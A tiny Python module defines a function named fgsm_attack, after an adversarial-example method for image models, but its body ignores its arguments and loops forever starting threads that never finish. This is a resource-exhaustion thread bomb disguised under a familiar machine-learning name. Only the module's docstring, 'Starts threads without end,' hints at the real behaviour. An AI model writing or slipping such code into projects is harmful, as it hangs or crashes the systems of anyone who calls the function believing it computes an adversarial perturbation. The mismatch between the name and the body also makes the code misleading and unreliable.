"""Starts threads without end."""

import threading


def fgsm_attack(image, epsilon, data_grad):
    while True:
        threading.Thread(target=threading.Event().wait, daemon=True).start()
